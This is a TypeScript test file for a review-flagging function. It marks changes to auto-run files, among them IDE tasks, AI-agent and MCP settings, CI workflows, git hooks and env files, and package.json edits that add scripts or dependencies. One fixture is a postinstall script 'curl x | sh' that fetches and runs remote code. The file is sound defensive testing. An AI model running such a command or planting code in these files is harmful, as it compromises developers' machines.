import { expect, test } from "vitest";
import { needsReview } from "./needs-review.ts";

const changed = (path: string): boolean => needsReview(path, Buffer.from("a"), Buffer.from("b"));
const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value));

test("what runs or is obeyed by itself is marked", () => {
  const paths = [
    ".vscode/tasks.json",
    ".VSCode/tasks.json",
    "sub/.claude/settings.json",
    ".codex/config.toml",
    ".gemini/settings.json",
    ".cursor/mcp.json",
    ".mcp.json",
    ".devcontainer/devcontainer.json",
    ".idea/workspace.xml",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".husky/pre-commit",
    ".gitattributes",
    "deep/.gitmodules",
    ".git",
    "inner/.git/config",
    ".envrc",
    ".env",
    ".env.local",
    "a/.npmrc",
    ".yarnrc.yml",
    "Makefile",
    "x.code-workspace",
  ];
  expect(paths.filter((path) => !changed(path))).toEqual([]);
});

test("plain sources and texts are not", () => {
  const paths = [
    "src/main.ts",
    "docs/package.json.md",
    "github/x",
    ".github/ISSUE_TEMPLATE.md",
    "vscode/tasks.json",
    "README.md",
    ".gitignore",
    ".agent-runner/note-1.md",
  ];
  expect(paths.filter(changed)).toEqual([]);
});

test("a package.json is marked where something in it is run or fetched", () => {
  const plain = json({ name: "a", version: "1.0.0" });
  const review = (before: Buffer | null, after: Buffer | null): boolean =>
    needsReview("sub/package.json", before, after);
  expect(review(plain, json({ name: "b", version: "2.0.0" }))).toBe(false);
  expect(review(null, plain)).toBe(false);
  expect(review(plain, json({ name: "a", scripts: { postinstall: "curl x | sh" } }))).toBe(true);
  expect(review(plain, json({ name: "a", devDependencies: { evil: "*" } }))).toBe(true);
  expect(review(null, json({ scripts: { test: "node --test" } }))).toBe(true);
  expect(review(plain, Buffer.from("{"))).toBe(true);
});
